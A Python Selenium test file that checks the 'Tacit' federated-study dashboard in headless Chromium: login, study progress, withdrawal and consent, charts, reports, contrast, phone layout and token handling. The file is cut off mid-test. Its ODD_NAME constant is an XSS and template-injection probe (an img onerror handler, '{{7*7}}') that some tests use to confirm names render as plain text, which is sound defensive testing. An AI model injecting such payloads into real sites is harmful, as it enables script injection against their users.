#!/usr/bin/env python3
"""The pages in a real browser, headless: log in, watch a study finish, withdraw, see the study go on without that party.

    TACIT=build/src/cli/tacit tests/service/test_browser.py

TACIT_SCREENSHOTS=docs/images keeps the pictures. Skipped where Chromium, its driver or Selenium are missing
(script/setup --full installs them).
"""
import json
import os
import re
import shutil
import sys
import unittest
from urllib.parse import urlparse

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from deployed import PATIENCE, SCHEMA, DeployedTest
from golden import difference, masked
from pages import Neighbour, Page, pieces

try:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait
    MISSING = [name for name in ("chromium", "chromedriver") if not shutil.which(name)]
except ImportError:
    MISSING = ["python3-selenium"]

EXACT = ("--allow-entrusted", "--allow-exact")
NAMES = ("St. Anna, Vienna", "Charité, Berlin", "Rigshospitalet, Copenhagen", "Sant Joan de Déu, Barcelona")
ODD_NAME = "<img src=x onerror=document.title='owned'> \"' &amp; {{7*7}} 王"
LINK = r"log in once, within ten minutes: (http://\S+)"


class BrowserTest(DeployedTest):
    def setUp(self):
        super().setUp()
        options = webdriver.ChromeOptions()
        options.binary_location = shutil.which("chromium")
        for word in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1000,1200",
                     f"--user-data-dir={self.path / 'browser'}"):
            options.add_argument(word)
        options.add_experimental_option("prefs", {"download.default_directory": str(self.path / "kept")})
        options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
        self.browser = webdriver.Chrome(service=Service(shutil.which("chromedriver")), options=options)
        self.addCleanup(self.browser.quit)

    def wait(self, condition, what):
        return WebDriverWait(self.browser, PATIENCE, ignored_exceptions=[Exception]).until(lambda _: condition(), what)

    def wait_text(self, text):
        self.wait(lambda: text in self.text(), f"the page never says '{text}':\n{self.text()}")

    def text(self):
        return self.browser.find_element(By.TAG_NAME, "body").text

    def one(self, selector):
        return self.wait(lambda: self.browser.find_element(By.CSS_SELECTOR, selector), selector)

    def press(self, selector):
        """By keyboard; again when the element was drawn again meanwhile."""
        def pressed():
            self.browser.find_element(By.CSS_SELECTOR, selector).send_keys(Keys.ENTER)
            return True
        self.wait(pressed, selector)

    def texts(self, selector):
        """Of all that fit, at one moment: the page may be drawn again between two questions."""
        return self.browser.execute_script("return Array.from(document.querySelectorAll(arguments[0]), one => one.textContent)", selector)

    def numbers(self, selector, *attributes):
        """[[number of each attribute]] of all that fit."""
        return self.browser.execute_script("return Array.from(document.querySelectorAll(arguments[0]), one => " +
                                           "arguments[1].map(name => Number(one.getAttribute(name))))", selector, attributes)

    def join_named(self, party, *more, called=None):
        return self.join(party, *more, invitation=self.invite("--for", called or NAMES[party]))

    def check_forest(self, coefficients):
        """The largest first, in the order of the table at the press of a button; the intercept apart; a log axis with labels; marks where the numbers say."""
        effects = [one for one in coefficients if one["name"] != "(Intercept)"]
        largest = [one["name"] for one in sorted(effects, key=lambda one: -one["estimate"])]
        self.wait(lambda: self.texts(".forest-row .forest-name") == largest, "not the largest first")
        marks = self.numbers(".forest-mark", "x")
        self.assertEqual(marks, sorted(marks, reverse=True))
        self.assertRegex(self.texts("#intercept")[0], r"^Not drawn: \(Intercept\) -?\d")
        self.assertEqual(self.texts(".forest-title"), ["odds ratio (log axis)"])
        ticks = [float(text) for text in self.texts(".forest-tick")]
        self.assertGreaterEqual(len(ticks), 3)
        self.assertEqual(ticks, sorted(ticks))
        self.assertGreater(ticks[0], 0)
        self.press("button.order")
        self.wait(lambda: self.texts(".forest-row .forest-name") == [one["name"] for one in effects], "not in the order of the table")
        self.press("button.order")
        self.wait(lambda: self.texts(".forest-row .forest-name") == largest, "no way back")

    def keep(self, name):
        folder = os.environ.get("TACIT_SCREENSHOTS")
        if folder:
            self.browser.save_screenshot(os.path.join(folder, name + ".png"))

    def check_quiet(self):
        """No error on the console, a broken policy included, and no request to anybody else."""
        self.assertEqual([line for line in self.browser.get_log("browser")
                          if line["level"] == "SEVERE" and "favicon" not in line["message"]], [])
        asked = 0
        for line in self.browser.get_log("performance"):
            message = json.loads(line["message"])["message"]
            # The browser's own first tab is not ours to judge.
            if message["method"] == "Network.requestWillBeSent" and message["params"]["documentURL"].startswith("http"):
                address = urlparse(message["params"]["request"]["url"])
                self.assertEqual((address.scheme, address.hostname), ("http", "127.0.0.1"), line)
                asked += 1
        self.assertGreater(asked, 5)

    def check_token_kept_to_the_tab(self):
        """The session outlives a reload; its token is in no cookie and no address, and another tab has to log in itself."""
        token = self.browser.execute_script("return sessionStorage.getItem('tacit.token')")
        self.assertRegex(token, r"^[0-9a-f]{64}$")
        self.browser.refresh()
        self.wait_text("Download the model")
        self.assertEqual(self.browser.get_cookies(), [])
        self.assertNotIn(token, self.browser.execute_script(
            "return JSON.stringify([location.href, performance.getEntries().map(one => one.name), document.documentElement.outerHTML])"))
        here, address = self.browser.current_window_handle, self.browser.current_url
        self.browser.switch_to.new_window("tab")
        self.browser.get(address)
        self.one("#credential")
        self.browser.close()
        self.browser.switch_to.window(here)

    def check_narrow(self):
        """On a phone nothing sticks out but tables, which scroll by themselves."""
        self.browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                                     {"width": 360, "height": 740, "deviceScaleFactor": 1, "mobile": True})
        self.wait(lambda: self.browser.execute_script("return document.documentElement.scrollWidth") <= 360, "wider than a phone")

    def dark(self):
        self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia",
                                     {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
        self.wait(lambda: self.browser.execute_script("return getComputedStyle(document.body).backgroundColor") ==
                  "rgb(20, 23, 27)", "not dark")


class Pages(BrowserTest):
    def test_a_study_is_watched_to_its_end(self):
        self.study(title="Who falls ill", method="estimate", set="{optimiser: lbfgs}", epsilon=None, approval="Ethics board 2026-114",
                   description="|\n  Does the dose matter?\n  And age?", stop="{se: {column: age, at_most: 3}}", **{"lambda": 0})
        coordinator = self.coordinator("--dashboard", "0", "--test", self.rows(9, 80))
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.wait_text("recruiting")
        self.assertNotIn("link=", self.browser.current_url)
        self.keep("dashboard-studies")
        self.press("a[href='#/study/trial']")  # by keyboard
        self.wait_text("Who learns what")
        for text in ("Does the dose matter?", "Ethics board 2026-114", "standard error of age is to be at most 3"):
            self.wait_text(text)
        self.press("button.pause")
        self.press("button.resume")
        self.one("button.pause")
        parties = {party: self.join_named(party, *EXACT) for party in range(2)}
        self.wait_text("seen in the last minute")
        self.invite("--for", NAMES[3])
        self.wait_text(NAMES[3])
        self.keep("dashboard-parties")
        parties[2] = self.join_named(2, *EXACT)
        self.one("#download")  # comes by itself when the study is done
        self.wait_text("Std. error")
        self.check_done(parties, charged=[])
        for title in ("Convergence", "Odds ratios", "Rounds", "ROC curve", "(DeLong)", "reached"):
            self.wait_text(title)
        self.press("#parties summary")  # folded up when a study has ended, for pictures without names
        for name in NAMES[:3]:
            self.wait_text(name)
        self.press("#parties summary")
        self.wait(lambda: NAMES[0] not in self.text(), "the parties do not fold up")
        self.wait(lambda: len(self.browser.find_elements(By.CSS_SELECTOR, ".chart canvas")) >= 3, "charts")
        summary = json.loads(self.succeed("summary", self.folder / "trial.model.json", "--json").stdout)
        for one in summary["coefficients"]:
            self.assertIn(one["name"], self.text())
        self.check_forest(summary["coefficients"])
        self.browser.execute_script("window.scrollTo(0, 0)")
        self.keep("dashboard-result")
        self.browser.execute_script("document.getElementById('auc').scrollIntoView({block: 'end'})")
        self.keep("dashboard-roc")
        self.check_quiet()
        self.dark()
        self.wait(lambda: len(self.browser.find_elements(By.CSS_SELECTOR, ".chart canvas")) >= 2, "charts")
        self.one(".forest-row")
        self.browser.execute_script("document.getElementById('forest').scrollIntoView({block: 'center'})")
        self.keep("dashboard-dark")
        self.check_narrow()
        self.keep("dashboard-phone")
        self.press("#download")
        kept = self.path / "kept" / "trial.model.json"
        self.wait(lambda: kept.read_bytes() == (self.folder / "trial.model.json").read_bytes(), "no model was kept")
        self.check_token_kept_to_the_tab()
        self.press("#logout")
        self.wait_text("Log in")
        self.assertEqual(self.browser.execute_script("return [sessionStorage.length, localStorage.length]"), [0, 0])
        self.browser.refresh()
        self.one("#credential").send_keys(coordinator.wait_line(r"credential, shown this once: (\S+)").group(1), Keys.ENTER)
        self.wait_text("Download the model")

    def test_a_description_is_drawn_when_it_is_done(self):
        (self.path / "schema.yaml").write_text(SCHEMA + "  - {name: sex, kind: category, levels: [f, m]}\n")
        for party in range(3):
            lines = self.rows(party, 200).read_text().splitlines()
            self.rows(party).write_text("\n".join(line + (",sex" if at == 0 else ",f" if at % 3 else ",m") for at, line in enumerate(lines)) + "\n")
        self.study(title="Who is there", method="describe-exact", set="{by: sick, cross: sex*sick}", epsilon=None, **{"lambda": None})
        coordinator = self.coordinator("--dashboard", "0")
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.press("a[href='#/study/trial']")
        self.check_done({party: self.join_named(party, *EXACT) for party in range(3)}, charged=[])
        self.one("#report")
        self.wait_text("From exact sums. 600 rows of all parties.")
        report = json.loads((self.folder / "trial.model.json").read_text())["report"]
        self.assertEqual(self.texts(".report-table h3"), [table["title"] for table in report["tables"]])
        means = {row["label"]: row["values"] for row in report["tables"][0]["rows"]}
        shown = self.texts("section[data-table='numbers'] tbody tr")
        self.assertEqual(len(shown), len(means))
        self.wait(lambda: len(self.texts(".strip")) == len(means), "no strips")
        self.browser.execute_script("document.getElementById('report').scrollIntoView()")
        self.keep("dashboard-report")
        self.check_quiet()
        self.check_narrow()

    def test_an_owner_withdraws_and_the_study_goes_on_without(self):
        self.study(title="Who falls ill", parties="{expected: 4, minimum: 3}")
        coordinator = self.coordinator("--dashboard", "0")
        self.join(0)
        page = self.start("page", home=self.home(0))
        self.browser.get(page.wait_line(LINK).group(1))
        self.wait_text("consent given")
        self.press("button.withdraw")
        self.wait_text("withdrawn")
        self.one("button.consent")
        self.wait_text("withdrawal")
        self.check_narrow()
        self.browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        self.check_quiet()
        parties = {party: self.join(party) for party in (1, 2, 3)}
        for process in parties.values():
            self.assertEqual(process.finish(), 0, process.text())
        self.assertEqual(self.charges(0), [])
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.one("a[href='#/study/trial']").click()
        self.one("#download")
        self.assertRegex(self.text(), r"3\s+parties in the model")
        self.check_quiet()

    def test_an_owner_reads_a_new_version_and_consents_to_it(self):
        self.study(title="Who falls ill")
        self.coordinator()
        party = self.join(0)
        (self.path / "consent.txt").write_text("What you consent to.\n")
        self.succeed("study", "amend", self.folder, self.definition(title="Who falls ill again", epsilon=1, consent="consent.txt"))
        self.assertEqual(party.finish(), 3, party.text())
        page = self.start("page", home=self.home(0))
        self.browser.get(page.wait_line(LINK).group(1))
        self.wait_text("A new version: Who falls ill again")
        self.wait_text("What you consent to.")
        self.check_narrow()
        self.browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        self.press("button.consent.next")
        self.wait(lambda: "A new version" not in self.text() and "consent given" in self.text(), "no consent")
        self.check_quiet()
        again = self.resume(0)
        self.check_done({0: again, 1: self.join(1), 2: self.join(2)})

    def test_the_next_round_is_without_who_withdraws(self):
        self.study(title="Who falls ill", method="dpgd", set="{noise: party, rounds: 20000}", delta="1e-5", sum="clear",
                   parties="{expected: 3, minimum: 2}", patience=1000)
        coordinator = self.coordinator("--dashboard", "0")
        for party in range(3):
            self.join_named(party)
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.press("a[href='#/study/trial']")
        self.wait(lambda: self.browser.find_element(By.CSS_SELECTOR, "#last-round b").text == "3", "no round of three")
        dashboard = self.browser.current_window_handle
        self.browser.switch_to.new_window("tab")
        self.browser.get(self.start("page", home=self.home(0)).wait_line(LINK).group(1))
        self.press("button.withdraw")
        self.wait_text("withdrawn")
        self.browser.switch_to.window(dashboard)
        self.wait(lambda: self.browser.find_element(By.CSS_SELECTOR, "#last-round b").text == "2", "no round of two")
        self.wait_text("running")
        self.keep("dashboard-running")
        self.check_quiet()
        self.succeed("study", "close", self.folder, "trial")
        self.wait_text("closed")

    def test_what_has_left_is_shown_by_study(self):
        self.study(title="Who falls ill")
        self.study("second", title="Who recovers")
        self.coordinator()
        self.succeed("ledger", "limit", "--source", "clinic", "--epsilon", 10, "--delta", "0.01", home=self.home(0))
        clinic = self.start(*self.join_words(0, self.invite("--for", NAMES[0]), "--source", "clinic"), home=self.home(0))
        self.check_done({0: clinic, 1: self.join(1), 2: self.join(2)})
        page = self.start("page", home=self.home(0))
        self.browser.get(page.wait_line(LINK).group(1))
        self.wait_text("charge (charged)")
        self.one(".chart canvas")
        self.keep("party-page")
        self.start(*self.join_words(0, self.invite("--for", ODD_NAME, study="second"), "--source", "clinic"),
                   home=self.home(0)).wait_line("^joined; waiting")
        self.wait_text("Who recovers")
        self.wait_text(f"There you are called {NAMES[0]}.")
        self.wait_text(f"There you are called {ODD_NAME}.")
        self.assertEqual(self.texts("section.group h3"), ["Who recovers", "Who falls ill", "Of the owner, for all studies"])
        ill = self.browser.execute_script("return document.querySelectorAll('section.group')[1].innerText").replace("\t", " ")
        self.assertRegex(ill, rf"trial@[0-9a-f]+, as {NAMES[0]}, 4 entries\n")
        self.assertEqual(re.findall(r"Z\s+(\w+)", ill), ["end", "charge", "consent", "limit"])
        self.assertEqual(self.browser.execute_script("return document.images.length"), 0)
        self.one("meter")
        self.check_quiet()
        self.check_narrow()


def luminance(colour):
    """Of #rgb or #rrggbb, as WCAG has it."""
    digits = colour[1:] if len(colour) == 7 else "".join(2 * digit for digit in colour[1:])
    parts = [int(digits[at:at + 2], 16) / 255 for at in (0, 2, 4)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


class People(BrowserTest):
    """Parties by name on the dashboard; a name is text, whatever is in it."""

    def row(self, called):
        rows = self.browser.execute_script("return Array.from(document.querySelectorAll('#parties tbody tr'), row => " +
                                           "Array.from(row.cells, cell => cell.innerText))")
        return next((cells for cells in rows if cells[0].split("\n")[0] == called), None)

    def wait_row(self, called, *expected):
        self.wait(lambda: all(text in " | ".join(self.row(called)) for text in expected), f"{called}: {expected}")

    def test_parties_are_shown_by_name_with_state_and_when_they_were_seen(self):
        self.study(title="Who falls ill", parties="{expected: 4, minimum: 3}")
        coordinator = self.coordinator("--dashboard", "0")
        self.invite("--for", ODD_NAME)
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.press("a[href='#/study/trial']")
        self.wait_row(ODD_NAME, "invited until")
        self.assertEqual(self.browser.execute_script("return [document.images.length, document.title]"), [0, "Tacit: trial"])
        self.join_named(0)
        self.wait_row(NAMES[0], "joined", "party-")
        # When it was seen moves on by itself; a page that is asked for again has it at once.
        self.browser.refresh()
        self.wait(lambda: any(word in self.row(NAMES[0])[3] for word in ("now", " ago")), "never seen")
        self.join(1)  # without a name
        self.wait_row("(no name)", "joined", "party-")
        self.succeed("withdraw", "trial", home=self.home(0))
        self.wait_row(NAMES[0], "has withdrawn")
        self.succeed("revoke", self.folder, NAMES[0])
        self.join(2)
        self.wait_row(NAMES[0], "revoked")
        self.check_narrow()
        self.check_quiet()

    def test_progress_has_a_total_where_one_is_known(self):
        self.study(title="Who falls ill", method="dpgd", set="{noise: party, rounds: 20000}", delta="1e-5", sum="clear",
                   parties="{expected: 3, minimum: 2}", patience=1000)
        coordinator = self.coordinator("--dashboard", "0")
        for party in range(3):
            self.join_named(party)
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.wait(lambda: "of 20000 steps" in self.text(), "no total in the list")
        self.press("a[href='#/study/trial']")
        self.wait(lambda: int(self.texts("#progress")[0].split()[0]) > 0, "no progress")
        self.assertRegex(self.texts("#progress")[0].strip(), r"^\d+ of 20000 steps$")
        self.assertEqual(self.numbers("progress", "max"), [[20000]])
        self.succeed("study", "close", self.folder, "trial")
        self.wait_text("closed")


class Drawings(BrowserTest):
    """The drawings by themselves, of numbers that no small study would give; one browser for all."""

    def test_each_drawing_keeps_its_promise(self):
        promises = [name for name in dir(self) if name.startswith("promise_")]
        self.assertGreaterEqual(len(promises), 7)
        for name in promises:
            with self.subTest(name):
                getattr(self, name)()
            self.browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        self.check_quiet()

    def draw(self, script, *arguments):
        if not self.browser.current_url.startswith("http://127"):
            self.study(title="Who falls ill")
            self.browser.get(self.coordinator("--dashboard", "0").wait_line(LINK).group(1))
            self.wait_text("recruiting")
            # Live news would draw the list again over what is drawn here.
            self.browser.execute_script("page.events.abort()")
        return self.browser.execute_script("show(); const draw = (...what) => document.getElementById('main').replaceChildren(" +
                                           "...what.flat(Infinity).filter(one => one)); " + script, *arguments)

    def forest(self, coefficients, ratio=None, noise=None):
        rows = [dict(zip(("name", "estimate", "low", "high"), one)) for one in coefficients]
        self.draw("draw(forestPlot(arguments[0], {ratio: arguments[1], noise: arguments[2]}))", rows, ratio, noise)
        self.one(".forest-row")

    def length(self, selector):
        """Of the lines that fit, left to right."""
        return [last - first for first, last in self.numbers(selector, "x1", "x2")]

    def promise_an_interval_is_split_into_sampling_and_noise(self):
        self.forest([("a", 1, 0, 2), ("b", 1, 0, 2), ("c", -1, -2, 0), ("d", None, None, None)], noise=[0.75, 0, None, None])
        self.assertEqual(self.texts(".forest-name"), ["a", "b", "c"])
        whole, parts = self.length(".forest-noise"), self.length(".forest-interval")
        self.assertEqual((len(whole), len(parts)), (1, 3))
        self.assertAlmostEqual(parts[0] / whole[0], 0.5, places=6)  # a quarter of the variance is sampling's
        self.assertAlmostEqual(parts[1], whole[0], places=3)
        self.assertIn("privacy noise", self.texts("#noise-band")[0])
        self.forest([("a", 1, 0, 2)])
        self.assertEqual(self.texts("#noise-band"), [])

    def promise_one_wide_interval_does_not_flatten_the_others(self):
        self.forest([("a", 1, 0.5, 1.5), ("b", -1, -1.5, -0.5), ("wide", 0, -900, 900)])
        self.assertEqual(len(self.texts(".forest-arrow")), 2)
        self.assertGreater(min(self.length(".forest-interval")), 20)

    def promise_hostile_and_long_names_are_text_and_fit(self):
        self.forest([(ODD_NAME, 1, 0, 2), ("x" * 400, 2, 1, 3), ("(Intercept)", 9, 8, 10), ("low|high", 1, 0, 2)])
        self.assertEqual(self.browser.execute_script("return document.images.length"), 0)
        self.assertEqual(len(self.texts(".forest-name")), 2)
        self.assertIn("(Intercept) 9 (8 … 10), low|high", self.texts("#intercept")[0])
        self.check_narrow()
        self.wait(lambda: self.browser.execute_script("return Array.from(document.querySelectorAll('.forest-name'), " +
                                                      "one => one.getBoundingClientRect().left >= 0).join()") == "true,true", "names are cut off")

    def promise_names_of_wide_letters_fit_and_a_narrow_log_axis_has_labels(self):
        rows = [("mmmmmmmm:mmmmmmm1", -0.4, -1.2, 0.36), ("age", -0.007, -0.03, 0.02), ("grade2", 0.6, 0.01, 1.2)]
        left = "return Math.min(...Array.from(document.querySelectorAll('.forest-name'), one => one.getBoundingClientRect().left))"
        self.forest(rows, "odds ratio")
        self.wait(lambda: self.browser.execute_script(left) >= 0, "a name is cut off")
        self.assertIn(rows[0][0], self.texts(".forest-name"))  # there is room for all of it
        self.check_narrow()
        self.wait(lambda: self.browser.execute_script(left) >= 0 and len(self.texts(".forest-tick")) >= 2, "no labels on a phone")

    def promise_a_table_without_figures_says_so(self):
        self.report(("cross:a*b", ["no", "yes"], [("1", [None, None]), ("2", [None, None])]), ("levels", ["count"], [("a=1", [None]), ("a=2", [20])]),
                    ("threshold_intervals", ["threshold", "ppv_low"], [("0.1", [0.1, 0.3]), ("0.2", [0.2, 0.4])]),
                    facts=[{"name": "held back", "number": 2, "text": "2 levels of too few rows"}])
        self.assertEqual(len(self.texts("section[data-table='cross'] p.soft")), 1)
        self.assertEqual(self.texts("section[data-table='levels'] p.soft"), [])
        self.assertEqual(self.cells("threshold_intervals"), ["0.1", "0.3", "0.2", "0.4"])  # the threshold once
        self.assertEqual(self.texts("#report dd"), ["2 levels of too few rows"])

    def promise_words_can_be_read_in_light_and_dark(self):
        """WCAG's contrast of at least 4.5 of every colour that words or lines have, on both grounds. The last of all, because the page draws itself again when the
        scheme changes."""
        self.draw("")
        for scheme in ("light", "dark"):
            self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]})
            words = ("ink", "soft", "accent", "good", "warn", "bad")
            palette = self.browser.execute_script("return arguments[0].map(name => colour('--' + name))", [*words, "ground", "panel"])
            light = {name: luminance(value) for name, value in zip([*words, "ground", "panel"], palette)}
            for word in words:
                for ground in ("ground", "panel"):
                    low, high = sorted((light[word], light[ground]))
                    self.assertGreaterEqual((high + 0.05) / (low + 0.05), 4.5, (scheme, word, ground))
        self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})

    def promise_a_wide_table_scrolls_by_itself_and_by_keyboard(self):
        self.report(("wide", [f"column {k}" for k in range(40)], [("a", list(range(40)))]))
        self.check_narrow()
        self.one("section[data-table='wide'] .scroll").send_keys(Keys.ARROW_RIGHT)
        self.wait(lambda: self.browser.execute_script("return document.querySelector(\"section[data-table='wide'] .scroll\").scrollLeft") > 0, "it does not scroll")

    def promise_axes_are_labelled_whatever_they_span(self):
        self.draw("")
        for low, high in ((0.9, 1.1), (0.5, 2), (1e-3, 10), (1e-9, 1e12), (1e-150, 1e150), (3.1, 3.3), (0.01, 0.5)):
            ticks = self.browser.execute_script("return logTicks(arguments[0], arguments[1], 8)", low, high)
            self.assertLessEqual(len(ticks), 8, (low, high))
            self.assertTrue(all(low * 0.999 <= one <= high * 1.001 for one in ticks), (low, high, ticks))
            self.assertGreaterEqual(len(ticks), 2, (low, high, ticks))
        for low, high in ((-1, 1), (0, 1e-6), (-3e5, 4e5), (0.99, 1.01)):
            ticks = self.browser.execute_script("return linearTicks(arguments[0], arguments[1], 6)", low, high)
            self.assertTrue(3 <= len(ticks) <= 8, (low, high, ticks))


    def report(self, *tables, mode="exact", facts=()):
        made = {"kind": "any", "mode": mode, "rows": 200, "facts": list(facts),
                "tables": [{"name": name, "title": "Title of " + name, "columns": columns,
                            "rows": [{"label": label, "values": values, **({"noise_errors": noise[0]} if noise else {})}
                                     for label, values, *noise in rows]} for name, columns, rows in tables]}
        self.draw("draw(reportPart(arguments[0]))", made)

    def cells(self, table):
        return self.texts(f"section[data-table='{table}'] td")

    def promise_any_table_of_a_report_is_shown_with_its_noise(self):
        self.report((ODD_NAME, ["count", ODD_NAME], [(ODD_NAME, [12, None], [1.5, None]), ("b", [0.25, -3], [None, None])]),
                    mode="private", facts=[{"name": "threshold", "number": 5}, {"name": "by", "number": None, "text": ODD_NAME}])
        self.assertEqual(self.texts("section.report-table td"), [ODD_NAME, "12 ± 1.5", "–", "b", "0.25", "-3"])
        self.assertEqual(self.texts("#report dd"), ["5", ODD_NAME])
        self.assertEqual(self.browser.execute_script("return document.images.length"), 0)
        self.check_narrow()

    def promise_quantiles_and_histograms_are_drawn(self):
        percents = ["5%", "25%", "50%", "75%", "95%"]
        self.report(("quantiles", percents, [("age", [20, 30, 50, 60, 90]), ("age [sex=f]", [20, 20, 30, 40, 55]), ("dose", [None] * 5)]),
                    ("histograms", ["low", "high", "count"], [("age: 0 to 50", [0, 50, 10], [None, None, 2]), ("age: 50 to 100", [50, 100, 20], [None, None, 2]),
                                                              ("dose: 0 to 1", [0, 1, None]), ("dose: 1 to 2", [1, 2, 7])]))
        self.wait(lambda: len(self.texts(".strip")) == 3, "no strips")
        self.assertEqual(self.browser.execute_script("return [compact(1984.02), compact(1268.3), number(1986.57), number(0.51234)]"),
                         ["1984", "1268", "1986.6", "0.5123"])  # a year keeps its last digit
        medians = self.numbers(".strip-median", "x1")
        self.assertEqual(len(medians), 2)
        self.assertLess(medians[1][0], medians[0][0])  # one scale for a column and its groups
        self.wait(lambda: len(self.texts(".many .bar")) == 4, "no bars")
        self.assertEqual(self.texts(".many figcaption"), ["age", "dose"])
        heights = [one[0] for one in self.numbers(".bar-count", "height")]
        self.assertAlmostEqual(heights[1] / heights[0], 2, places=3)
        self.assertEqual(len(self.texts(".bar-hidden")), 1)
        self.assertEqual(len(self.texts(".bar-noise")), 2)
        self.assertEqual(self.cells("quantiles")[:3], ["age", "20", "30"])  # the numbers are there too
        self.check_narrow()

    def promise_curves_of_survival_are_drawn_with_numbers_at_risk(self):
        columns = ["at risk", "events", "survival", "low", "high"]
        self.report(("curve a", columns, [("10", [50, 5, 0.9, 0.8, 1]), ("20", [30, 6, 0.72, 0.6, 0.86])]),
                    ("curve b", columns, [("10", [41, 1, 0.98, None, None]), ("40", [17, 0, 0.98, None, None])]))
        self.wait(lambda: len(self.texts(".survival-curve")) == 2, "no curves")
        self.assertEqual(len(self.texts(".survival-band")), 2)
        self.assertEqual(self.texts(".survival-at-risk"), ["50", "50", "30", "41", "41", "17", "17", "17"])
        self.assertEqual(self.cells("curve b")[:2], ["10", "41"])  # the numbers are there too
        self.check_narrow()

    def promise_the_incidence_of_competing_causes_is_drawn(self):
        columns = [cause + part for cause in ("relapse", "death") for part in ("", " error", " low", " high")]
        self.report(("incidence a", columns, [("10", [0.1, 0.02, 0.06, 0.14, 0.2, None, None, None]), ("20", [0.3, 0.03, 0.24, 0.36, 0.2, None, None, None])]))
        self.wait(lambda: len(self.texts(".survival-curve")) == 2, "no curves")
        self.assertEqual(len(self.texts(".survival-band")), 2)
        self.assertEqual(self.texts(".survival-at-risk"), [])
        self.assertEqual(self.texts(".picture-name"), ["relapse", "death"])
        self.assertEqual(self.cells("incidence a")[:2], ["10", "0.1"])  # the numbers are there too
        self.check_narrow()

    def promise_an_evaluation_is_drawn(self):
        self.report(("figures", ["value", "error", "low", "high", "grid_error"], [("auc", [0.8, 0.02, 0.76, 0.84, 0.001])]),
                    ("thresholds", ["threshold", "sensitivity", "net_benefit", "treat_all"],
                     [(str(t), [t, 0.9, 0.3 - t / 4, 0.3 - t / 2]) for t in (0.1, 0.2, 0.3)]),
                    ("calibration", ["from", "until", "rows", "predicted", "observed", "observed_low", "observed_high"],
                     [("1", [0, 0.5, 90, 0.2, 0.25, 0.15, 0.35]), ("2", [0.5, 1, 110, 0.8, 0.7, None, None]), ("3", [1, 1, 0, None, None, None, None])]),
                    ("roc", ["threshold", "false_positives", "sensitivity"], [("1", [1, 0, 0]), ("0.5", [0.5, 0.2, 0.7]), ("0", [0, 1, 1])]),
                    ("roc@sex=f", ["threshold", "false_positives", "sensitivity"], [("1", [1, 0, 0]), ("0", [0, 1, 1])]))
        self.wait(lambda: len(self.texts(".chart canvas")) == 3, "no curves")
        self.assertEqual(self.texts(".auc"), ["AUC 0.8, interval 0.76 … 0.84"])
        self.wait(lambda: len(self.texts(".calibration-point")) == 2, "no calibration")
        low, high = self.numbers(".calibration-point circle", "cx", "cy")
        self.assertTrue(low[0] < high[0] and low[1] > high[1])
        self.check_narrow()


    def promise_a_cross_validated_model_has_coefficients_and_figures(self):
        report = {"kind": "evaluate", "mode": "exact", "rows": 200, "facts": [{"name": "cross-validation", "number": 5, "text": "5 folds of each party's rows"}],
                  "tables": [{"name": "figures", "title": "How good", "columns": ["value", "low", "high"], "rows": [{"label": "auc", "values": [0.8, 0.76, 0.84]}]}]}
        coefficient = {"name": "age", "estimate": 1, "error": 0.5, "statistic": 2, "p": 0.05, "low": 0, "high": 2}
        self.draw("draw(resultPart({name: 'trial'}, arguments[0]))",
                  {"guarantee": {"parties": 3, "private": False}, "ratio": "odds ratio", "validation": report,
                   "estimates": {"family": "logistic", "level": 0.95, "rows": 200, "coefficients": [coefficient]}})
        self.assertIn("Cross-validation", self.texts("h3"))
        self.assertEqual(self.texts("#report dd"), ["5 folds of each party's rows"])
        self.assertEqual(self.cells("figures"), ["auc", "0.8", "0.76", "0.84"])


    def promise_a_private_model_says_how_many_values_were_missing(self):
        counts = {"kind": "missing", "mode": "private", "rows": 282, "facts": [{"name": "share", "number": 0.02, "text": "0.02 of the study's budget"}],
                  "tables": [{"name": "missing", "title": "Missing values by what becomes of them", "columns": ["count"], "rows": [
                      {"label": "age: fill", "values": [412.25], "noise_errors": [26.4]}, {"label": "rows left out", "values": [None], "noise_errors": [26.4]}]}]}
        self.draw("draw(resultPart({name: 'trial'}, arguments[0]))",
                  {"guarantee": {"parties": 3, "private": True, "charged": {"epsilon": 1, "delta": 1e-5, "unit": "record"}}, "missing_counts": counts})
        self.assertIn("Missing values", self.texts("h3"))
        self.assertEqual(self.texts("#missing dd"), ["0.02 of the study's budget"])
        self.assertEqual(self.cells("missing"), ["age: fill", "412.3 ± 26", "rows left out", "–"])


class Screens(BrowserTest):
    """The party page word for word, in each state that a study can be in (golden.py)."""

    def see(self, name, *expected):
        """Open the page again, wait for what it must say, and compare all of it, what is folded up included."""
        self.browser.get(self.start("page", home=self.home(0)).wait_line(LINK).group(1))
        for text in expected:
            self.wait_text(text)
        self.browser.execute_script("""
            document.querySelectorAll('details').forEach(one => { one.open = true; });
            document.querySelectorAll('.chart').forEach(one => { one.hidden = true; });""")
        wrong = difference("page-" + name, masked(self.one("#main").text, self.path))
        if wrong:
            self.fail(wrong)
        return {button.text for button in self.browser.find_elements(By.CSS_SELECTOR, "main button")}

    def badge(self):
        """The words of the badge, and whether it is green."""
        mark = self.one("main .state")
        return mark.text, mark.value_of_css_property("color") == "rgba(26, 127, 55, 1)"

    def test_of_a_study_with_noise(self):
        self.study(title="Who falls ill")
        self.coordinator()
        process = self.join(0)
